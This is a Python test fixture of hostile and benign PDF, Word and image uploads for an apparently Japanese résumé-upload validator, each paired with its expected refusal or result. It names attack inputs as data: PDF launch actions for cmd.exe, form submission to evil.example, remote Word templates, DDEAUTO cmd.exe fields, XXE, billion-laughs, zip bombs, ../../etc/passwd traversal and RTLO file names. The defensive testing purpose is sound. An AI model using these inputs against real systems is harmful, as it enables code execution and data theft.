# ruff: noqa: E501  # a table: one animal, one line
"""The zoo: every hostile and every real file with the exact answer to it. All are made in code when asked for.

The answer is the sentence of the refusal, or what is known of a file that is taken: pages, or (width, height).
"""

from collections.abc import Callable
from dataclasses import dataclass

from pikepdf import Array, Dictionary, Encryption, Name, ObjectStreamMode, String

from app.files import docx as word
from app.files import pdf as portable
from app.files.pdf_drawn import SWOLLEN
from app.files.verdict import CUT_OFF, EMPTY, LOCKED, UNREADABLE, UNSAFE
from tests.applications.pdf import locked_pdf
from tests.files import zoo_docx, zoo_images, zoo_pdf
from tests.files.zoo_pdf import saved, with_root

ALL = "PDF、Word（docx）、JPEG、PNGのファイルを選んでください"
HTML = "<html lang=ja><title>経歴</title><p>山田の経歴 <a href='https://example.jp/'>作品</a></p></html>"
TABLES = f"{ALL}。Excelなどの表は、PDFで保存し直してから選んでください"
HEIC = f"{ALL}。iPhoneの写真（HEIC）は、JPEGで保存し直してから選んでください"
OLD_WORD = f"{ALL}。古い形式のWord（.doc）は、PDFで保存し直してから選んでください"


@dataclass(frozen=True)
class Animal:
    """One file: what it is, its name, its bytes, and the answer."""

    what: str
    name: str
    content: Callable[[], bytes]
    answer: object


def _pdf(what: str, content: Callable[[], bytes], answer: object) -> Animal:
    return Animal(what, "経歴.pdf", content, answer)


def _docx(what: str, content: Callable[[], bytes], answer: object = None) -> Animal:
    return Animal(what, "経歴.docx", content, answer)


def _act(**values: object) -> Callable[[], bytes]:
    """A PDF with a link whose action is this."""
    return lambda: with_root(zoo_pdf.link_to(Dictionary(**values)))


NAMES = (
    Animal("zero bytes", "a.pdf", lambda: b"", EMPTY),
    Animal("no ending", "経歴", lambda: saved(zoo_pdf.plain()), ALL),
    Animal("a full-width dot", "経歴．pdf", lambda: saved(zoo_pdf.plain()), ALL),
    Animal("a second ending", "経歴.pdf.exe", lambda: saved(zoo_pdf.plain()), ALL),
    Animal("an ending turned around", "経歴\u202efdp.exe", lambda: saved(zoo_pdf.plain()), ALL),
    Animal("a NUL before the ending", "経歴.exe\x00.pdf", lambda: saved(zoo_pdf.plain()), 1),
    Animal("a dot after the ending", "経歴.pdf.", lambda: saved(zoo_pdf.plain()), 1),
    Animal("an ending in capitals", "経歴.PDF", lambda: saved(zoo_pdf.plain()), 1),
    Animal("a web page", "a.html", lambda: HTML.encode(), ALL),
    Animal("a web page as PDF", "a.pdf", lambda: b"<html>%PDF-1.4 %%EOF</html>", f"{ALL}。このファイルは、名前が .pdf でも中身が違います"),
    Animal("an Excel file", "a.xlsx", zoo_docx.honest, TABLES),
    Animal("a photo of an iPhone", "IMG_0001.HEIC", lambda: b"\x00\x00\x00\x18ftypheic", HEIC),
    Animal("a photo of an iPhone named .jpg", "a.jpg", lambda: b"\x00\x00\x00\x18ftypheic", HEIC),
    Animal("an old Word file", "a.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", OLD_WORD),
    Animal("an old Word file named .docx", "a.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" * 99, OLD_WORD),
    Animal("an archive", "a.zip", zoo_docx.honest, f"{ALL}。圧縮したファイルは、中のファイルを取り出して選んでください"),
    Animal("a PNG named .pdf", "a.pdf", lambda: zoo_images.png_of(1, 1), f"{ALL}。このファイルは、名前が .pdf でも中身はPNGです"),
    Animal("a Word file named .pdf", "a.pdf", zoo_docx.honest, f"{ALL}。このファイルは、名前が .pdf でも中身は圧縮ファイルです"),
    Animal("a picture with scripts", "a.svg", lambda: b"<svg/>", f"{ALL}。ほかの形式の画像は、JPEGで保存し直してから選んでください"),
)  # fmt: skip

PDFS = (
    _pdf("plain", lambda: saved(zoo_pdf.plain(3)), 3),
    _pdf("printed by Chromium", lambda: zoo_pdf.printed_by_chromium(HTML), 1),
    _pdf("written by WeasyPrint as PDF/UA", lambda: zoo_pdf.printed_by_weasyprint(HTML), 1),
    _pdf("a form to fill in", lambda: with_root(zoo_pdf.honest_form), 1),
    _pdf("opens at the first page, empty lists", lambda: with_root(zoo_pdf.views), 1),
    _pdf("opens with the page in full", lambda: with_root(zoo_pdf.view_as_array), 1),
    _pdf("speaks of JavaScript", lambda: with_root(zoo_pdf.words_that_look_active), 1),
    _pdf("a link to a page", _act(S=Name.URI, URI=String("https://example.jp/")), 1),
    _pdf("objects in streams", lambda: saved(zoo_pdf.plain(), object_stream_mode=ObjectStreamMode.generate), 1),
    _pdf("spaces after the end", lambda: saved(zoo_pdf.plain()) + b"\r\n\x00\x00", 1),
    _pdf("closed to copying, open to reading", lambda: saved(zoo_pdf.plain(), encryption=Encryption(owner="x")), 1),
    _pdf("fifty pages", lambda: saved(zoo_pdf.plain(50)), 50),
    _pdf("fifty-one pages", lambda: saved(zoo_pdf.plain(51)), "50ページまでのPDFを選んでください（選んだファイルは51ページ）"),
    _pdf("a password", lambda: saved(zoo_pdf.plain(), encryption=Encryption(owner="x", user="y")), LOCKED),
    _pdf("an old password", locked_pdf, LOCKED),
    _pdf("cut off", lambda: saved(zoo_pdf.plain(9))[:-40], CUT_OFF),
    _pdf("cut off early", lambda: saved(zoo_pdf.plain(9))[:99], CUT_OFF),
    _pdf("linearised and cut off", lambda: saved(zoo_pdf.plain(9), linearize=True)[:-200], CUT_OFF),
    _pdf("nothing between head and end", lambda: b"%PDF-1.7\n" + b"x" * 500 + b"\n%%EOF\n", UNREADABLE),
    _pdf("a ZIP too", lambda: zoo_pdf.with_zip(saved(zoo_pdf.plain())), UNSAFE),
    _pdf("a ZIP at the end", lambda: saved(zoo_pdf.plain()) + zoo_docx.honest(), CUT_OFF),
    _pdf("a script on opening", lambda: with_root(zoo_pdf.opening_script), portable.ACTIVE),
    _pdf("a script in an object stream", lambda: with_root(zoo_pdf.opening_script, object_stream_mode=ObjectStreamMode.generate), portable.ACTIVE),
    _pdf("a named script", lambda: with_root(zoo_pdf.named_script), portable.ACTIVE),
    _pdf("a script whose kind is an object of its own", lambda: with_root(zoo_pdf.script_behind_names), portable.ACTIVE),
    _pdf("a script deep in arrays, without a kind", lambda: with_root(zoo_pdf.script_without_kind), portable.ACTIVE),
    _pdf("a script by escaped names", zoo_pdf.escaped_names, portable.ACTIVE),
    _pdf("a page that acts", lambda: with_root(zoo_pdf.page_action), portable.ACTIVE),
    _pdf("opens a site after the view", lambda: with_root(zoo_pdf.opens_a_site_next), portable.ACTIVE),
    _pdf("starts a program", _act(S=Name.Launch, F=String("cmd.exe")), portable.ACTIVE),
    _pdf("starts a program whose kind is an object of its own", lambda: with_root(zoo_pdf.program_behind_names), portable.ACTIVE),
    _pdf("sends a form", _act(S=Name.SubmitForm, F=String("https://evil.example/")), portable.ACTIVE),
    _pdf("reads another computer's file", _act(S=Name.GoToR, F=String("\\\\evil.example\\a.pdf"), D=Array([0])), portable.ACTIVE),
    _pdf("a file inside", lambda: with_root(zoo_pdf.attachment), portable.ATTACHED),
    _pdf("a file beside a page", lambda: with_root(zoo_pdf.attachment_of_a_page), portable.ATTACHED),
    _pdf("a film", lambda: with_root(zoo_pdf.annotation(Name.RichMedia)), portable.ATTACHED),
    _pdf("a dynamic form", lambda: with_root(zoo_pdf.dynamic_form), portable.DYNAMIC_FORM),
    _pdf("a ring of pages", zoo_pdf.page_tree_that_is_a_ring, UNREADABLE),
    _pdf("more pages than it says", zoo_pdf.more_pages_than_said, UNREADABLE),
    _pdf("two hundred thousand brackets", zoo_pdf.deep_nesting, 1),
    _pdf("two gigabytes in a page", zoo_pdf.swollen_page, SWOLLEN),
    _pdf("twenty megabytes in a page", lambda: zoo_pdf.a_page_of_much_drawing(20), SWOLLEN),
    _pdf("a drawing that fifty pages share", lambda: zoo_pdf.a_page_of_much_drawing(2, 50), SWOLLEN),
    _pdf("a map of eight megabytes", lambda: zoo_pdf.a_page_of_much_drawing(8), 1),
    _pdf("pages of one megabyte each", lambda: zoo_pdf.a_page_of_much_drawing(1, 50), 50),
)  # fmt: skip

DOCUMENTS = (
    _docx("a career with a table, a header, a link", zoo_docx.honest),
    _docx("stored without packing", lambda: zoo_docx.packed(zoo_docx.parts(), 0)),
    _docx("a link to write a mail", lambda: zoo_docx.related("hyperlink", "mailto:a@example.jp")),
    _docx("made from a template on the writer's own disk", lambda: zoo_docx.with_template("file:///C:\\Users\\a\\b.dotx")),
    _docx("a field with a date", lambda: zoo_docx.with_field('DATE \\@ "yyyy"')),
    _docx("cut off", lambda: zoo_docx.honest()[:-300], CUT_OFF),
    _docx("no document", lambda: zoo_docx.packed({"a.txt": b"x"}), word.NO_DOCUMENT),
    _docx("a template", lambda: zoo_docx.changed("[Content_Types].xml", "document.main+xml", "template.main+xml"), word.NO_DOCUMENT),
    _docx("a password", zoo_docx.locked, LOCKED),
    _docx("a ZIP password", zoo_docx.with_zip_password, LOCKED),
    _docx("macros, renamed from docm", lambda: zoo_docx.changed("[Content_Types].xml", zoo_docx.MAIN, zoo_docx.MACRO_MAIN), word.MACROS),
    _docx("macros as a file", zoo_docx.with_macros, word.MACROS),
    _docx("macros as a relationship", lambda: zoo_docx.related("vbaProject", "a.bin", external=False), word.MACROS),
    _docx("an object inside", lambda: zoo_docx.related("oleObject", "embeddings/a.bin", external=False), word.EMBEDDED),
    _docx("a web page inside", lambda: zoo_docx.related("aFChunk", "a.html", external=False), word.EMBEDDED),
    _docx("a package in the package", lambda: zoo_docx.adding("word/embeddings/a.xlsx", zoo_docx.honest()), word.EMBEDDED),
    _docx("an object of another computer", lambda: zoo_docx.related("oleObject", "http://evil.example/a.rtf"), word.EMBEDDED),
    _docx("a template of another computer", lambda: zoo_docx.with_template("https://evil.example/a.dotm"), word.FETCHING),
    _docx("a template of a neighbour", lambda: zoo_docx.with_template("file://evil.example/a.dotm"), word.FETCHING),
    _docx("a picture of another computer", lambda: zoo_docx.related("image", "http://evil.example/a.png"), word.FETCHING),
    _docx("a frame of another computer", lambda: zoo_docx.related("frame", "http://evil.example/"), word.FETCHING),
    _docx("a link to a neighbour's file", lambda: zoo_docx.related("hyperlink", "file://evil.example/a"), word.FETCHING),
    _docx("DDE", lambda: zoo_docx.with_field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"), word.FETCHING),
    _docx("DDE in pieces", lambda: zoo_docx.with_field(" D", "DE", "AUTO c:\\\\cmd.exe"), word.FETCHING),
    _docx("DDE by numbers", lambda: zoo_docx.with_field("QUOTE 68 68 69"), word.FETCHING),
    _docx("a text fetched", lambda: zoo_docx.with_field('INCLUDETEXT "http://evil.example/a"'), word.FETCHING),
    _docx("a text fetched by its old name", lambda: zoo_docx.with_field('INCLUDE "http://evil.example/a"'), word.FETCHING),
    _docx("DDE of a deleted field", lambda: zoo_docx.with_field("DDE c:\\a.exe", tag="delInstrText"), word.FETCHING),
    _docx("DDE in a document of another folder", lambda: zoo_docx.moved_to("text/document.xml", "DDE c:\\a.exe"), word.FETCHING),
    _docx("DDE in a header with an odd name", lambda: zoo_docx.renamed_header("word/header1.dat", "DDE c:\\a.exe"), word.FETCHING),
    _docx("a fetched template, in capitals", lambda: zoo_docx.with_template("https://evil.example/a.dotm", "word/_rels/settings.xml.RELS"), word.FETCHING),
    _docx("a database for a mail merge", lambda: zoo_docx.changed("word/settings.xml", "</w:settings>", zoo_docx.MAIL_MERGE + "</w:settings>"), word.FETCHING),
    _docx("macros by the ending of a name", lambda: zoo_docx.typed('<Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/>'), word.MACROS),
    _docx("two types for one part", lambda: zoo_docx.typed(f'<Override PartName="/Word/document.xml" ContentType="{zoo_docx.MAIN}"/>'), UNSAFE),
    _docx("an external entity", lambda: zoo_docx.changed("word/document.xml", "<w:document", zoo_docx.ENTITY + "<w:document"), UNSAFE),
    _docx("an external entity beside the document", lambda: zoo_docx.adding("customXml/item1.xml", f"{zoo_docx.ENTITY}<a>&x;</a>".encode()), UNSAFE),
    _docx("a billion laughs", lambda: zoo_docx.changed("word/styles.xml", "<w:styles", zoo_docx.LAUGHS + "<w:styles"), UNSAFE),
    _docx("too many entries", zoo_docx.of_many_entries, word.SWOLLEN),
    _docx("a bomb", zoo_docx.bomb, word.SWOLLEN),
    _docx("one part that swells", zoo_docx.swollen_part, word.SWOLLEN),
    _docx("entries that share bytes", zoo_docx.overlapping, word.SWOLLEN),
    _docx("an entry above", lambda: zoo_docx.adding("../../etc/passwd"), UNSAFE),
    _docx("an entry at the root", lambda: zoo_docx.adding("/etc/passwd"), UNSAFE),
    _docx("an entry of Windows", lambda: zoo_docx.adding("C:\\a.txt"), UNSAFE),
    _docx("a symbolic link", zoo_docx.symbolic_link, UNSAFE),
    _docx("the same name twice", lambda: zoo_docx.adding("Word/Document.xml"), UNSAFE),
    _docx("words before the package", lambda: b"PK\x03\x04" + zoo_docx.honest(), UNSAFE),
    _docx("words after the package", lambda: zoo_docx.honest() + b"%%EOF", UNSAFE),
    _docx("XML that is none", lambda: zoo_docx.adding("word/footer9.xml", b"<a><b></a>"), UNREADABLE),
    _docx("a checksum that is wrong", lambda: zoo_docx.packed(zoo_docx.parts(), 0).replace("設計".encode(), "設許".encode()), UNREADABLE),
)  # fmt: skip

PICTURES = (
    Animal("a photo lying on its side", "a.jpg", zoo_images.photo_with_place, (40, 80)),
    Animal("a photo in CMYK", "a.JPEG", zoo_images.in_another_profile, (80, 40)),
    Animal("a photo with a profile", "a.jpg", zoo_images.with_profile, (80, 40)),
    Animal("a PNG with words", "a.png", zoo_images.png_with_words, (80, 40)),
    Animal("a scan in grey", "a.png", lambda: zoo_images.saved(zoo_images.drawn(mode="L"), "PNG"), (80, 40)),
    Animal("a scan in sixteen bits", "a.png", lambda: zoo_images.saved(zoo_images.drawn(mode="I;16"), "PNG"), (80, 40)),
    Animal("a long photo", "a.jpg", lambda: zoo_images.saved(zoo_images.drawn(8000, 3000), "JPEG"), (4096, 1536)),
    Animal("900 million pixels in 1 KB", "a.png", lambda: zoo_images.png_of(30_000, 30_000), "画像が大きすぎます（30000×30000）。5000万画素までに縮めてから選んでください"),
    Animal("a JPEG cut off", "a.jpg", lambda: zoo_images.saved(zoo_images.drawn(800, 800), "JPEG")[:-900], CUT_OFF),
    Animal("a PNG cut off", "a.png", lambda: zoo_images.saved(zoo_images.drawn(800, 800), "PNG")[:-60], CUT_OFF),
    Animal("a PNG without pixels", "a.png", lambda: zoo_images.png_of(10, 10), CUT_OFF),
    Animal("only a head", "a.jpg", lambda: b"\xff\xd8\xff\xe0", UNREADABLE),
    Animal("words that swell", "a.png", zoo_images.words_bomb, UNREADABLE),
)  # fmt: skip

ZOO = (*NAMES, *PDFS, *DOCUMENTS, *PICTURES)
